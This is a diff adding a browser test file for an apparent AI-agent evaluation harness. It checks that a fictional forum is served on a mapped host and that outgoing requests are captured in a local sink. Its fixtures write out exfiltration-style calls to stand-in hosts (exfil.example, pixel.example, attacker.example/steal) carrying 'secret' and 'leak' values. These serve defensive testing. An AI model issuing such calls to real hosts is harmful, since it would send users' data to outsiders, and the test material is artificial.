@@ -1,0 +1,150 @@
+/**
+ * Fictional hosts and the sink in real Chromium: with the workspace's host mapping, the forum is
+ * served on forum.brightpath.example (links between apps move between hosts), and navigation,
+ * fetch, an image and a form post to a host nobody serves each land in the episode's sink log,
+ * answered with a plain page, without an error and without reaching the network.
+ */
+import { describe, expect, it } from "vitest";
+import { forumScenario } from "../workspace/forum-fixture.js";
+import { openEpisode, refOf, scenarioOf, useBrowserAndWorkspace } from "./browser-fixture.js";
+
+const forum = scenarioOf(forumScenario());
+const { browser, workspace } = useBrowserAndWorkspace();
+
+async function openMapped() {
+  const id = `mapped-${Math.random().toString(36).slice(2, 10)}`;
+  return openEpisode(browser(), workspace(), forum, { hostMapping: workspace().hostMapping(id), episodeId: id });
+}
+
+describe("the host mapping", { timeout: 90_000 }, () => {
+  it("serves the forum on its host: the home page's link leads there, a comment posts there, the app bar leads back", async () => {
+    const { id, session } = await openMapped();
+    try {
+      const home = await session.observe();
+      expect(home.url).toBe(workspace().episodeUrl(id));
+      expect((await session.act({ action: "click", ref: refOf(home, "link", "Forum") })).error).toBeNull();
+      const front = await session.observe();
+      expect(front.url).toBe(`http://forum.brightpath.example/e/${id}/forum`);
+      expect(front.axtree).toContain("How do you back up your NAS?");
+      await session.act({ action: "click", ref: refOf(front, "link", "How do you back up your NAS?") });
+      const post = await session.observe();
+      await session.act({ action: "fill", ref: refOf(post, "textbox", "Comment"), text: "Try restic." });
+      await session.act({ action: "click", ref: refOf(await session.observe(), "button", "Comment") });
+      const after = await session.observe();
+      expect(after.url).toBe(`http://forum.brightpath.example/e/${id}/forum/posts/0?notice=sent`);
+      expect(after.lastActionError).toBeNull();
+      expect(
+        workspace()
+          .log(id)
+          .map((entry) => entry.operation),
+      ).toEqual(["add_comment"]);
+      await session.act({ action: "click", ref: refOf(after, "link", "Home") });
+      expect((await session.observe()).url).toBe(workspace().episodeUrl(id));
+      expect(workspace().sinkLog(id)).toEqual([]);
+      // An https address of the forum is served too, over http (the local proxy has no certificate).
+      expect((await session.act({ action: "goto", url: `https://forum.brightpath.example/e/${id}/forum/blocked` })).error).toBeNull();
+      const blocked = await session.observe();
+      expect(blocked.url).toBe(`http://forum.brightpath.example/e/${id}/forum/blocked`);
+      expect(blocked.axtree).toContain("spam_lord");
+    } finally {
+      await session.close();
+    }
+  });
+
+  it("sends navigation, fetch, an image and a form post to an unknown host to the sink, in order, with no error", async () => {
+    const { id, session } = await openMapped();
+    try {
+      await session.act({ action: "goto", url: `http://forum.brightpath.example/e/${id}/forum` });
+      const page = session.activePage;
+      const fetched = await page.evaluate(async () => {
+        const response = await fetch("https://exfil.example/collect?who=quill_harbor", {
+          method: "POST",
+          body: "secret=mirror",
+          mode: "no-cors",
+        });
+        return response.type;
+      });
+      expect(fetched).toBe("opaque");
+      await page.evaluate(
+        () =>
+          new Promise<void>((resolve) => {
+            const image = document.createElement("img");
+            image.onload = image.onerror = () => resolve();
+            image.src = "http://pixel.example/p.gif?leak=backup-plan";
+            document.body.append(image);
+          }),
+      );
+      await page.evaluate(() => {
+        const form = document.createElement("form");
+        form.method = "post";
+        form.action = "http://forms.example/submit";
+        const field = document.createElement("input");
+        field.name = "note";
+        field.value = "Your tip saved my data.";
+        form.append(field);
+        document.body.append(form);
+        form.submit();
+      });
+      await page.waitForURL("http://forms.example/submit");
+      const goto = await session.act({ action: "goto", url: "http://attacker.example/steal?d=1&d=2" });
+      expect(goto.error).toBeNull();
+      const observation = await session.observe();
+      expect(observation.url).toBe("http://attacker.example/steal?d=1&d=2");
+      expect(observation.axtree).toContain("Your request was received.");
+      const admin = await session.act({ action: "goto", url: `${workspace().adminUrl}/episodes/${id}/state` });
+      expect(admin.error).toBeNull();
+      expect((await session.observe()).axtree).not.toContain("quill_harbor");
+
+      const sink = workspace().sinkLog(id);
+      expect(sink.map((entry) => [entry.seq, entry.method, entry.host, entry.path, entry.resource_type])).toEqual([
+        [1, "POST", "exfil.example", "/collect", "fetch"],
+        [2, "GET", "pixel.example", "/p.gif", "image"],
+        [3, "POST", "forms.example", "/submit", "document"],
+        [4, "GET", "attacker.example", "/steal", "document"],
+        [5, "GET", "127.0.0.1", `/episodes/${id}/state`, "document"],
+      ]);
+      expect(sink[0]).toMatchObject({
+        episode: id,
+        query: [["who", "quill_harbor"]],
+        body: "secret=mirror",
+        after_change: 0,
+        time: "2026-03-02T10:30:00Z",
+      });
+      expect(sink[1]?.query).toEqual([["leak", "backup-plan"]]);
+      expect(sink[2]?.body).toBe("note=Your+tip+saved+my+data.");
+      expect(sink[3]).toMatchObject({
+        url: "http://attacker.example/steal?d=1&d=2",
+        query: [
+          ["d", "1"],
+          ["d", "2"],
+        ],
+        body: null,
+      });
+      expect(session.blockedRequests).toEqual([]);
+    } finally {
+      await session.close();
+    }
+  });
+
+  it("without the mapping, the same requests are refused as before and nothing reaches the sink", async () => {
+    const { id, session } = await openEpisode(browser(), workspace(), forum);
+    try {
+      const refused = await session.act({ action: "goto", url: "http://attacker.example/steal" });
+      expect(refused.error).toMatch(/outside the workspace/);
+      const fetched = await session.activePage.evaluate(() =>
+        fetch("http://exfil.example/x").then(
+          () => "answered",
+          () => "failed",
+        ),
+      );
+      expect(fetched).toBe("failed");
+      expect(session.blockedRequests).toEqual(["http://exfil.example/x"]);
+      expect(workspace().sinkLog(id)).toEqual([]);
+      // The forum is served on the workspace's own origin, as every app is without a mapping.
+      await session.act({ action: "goto", url: `/e/${id}/forum` });
+      expect((await session.observe()).url).toBe(`${workspace().url}/e/${id}/forum`);
+    } finally {
+      await session.close();
+    }
+  });
+});
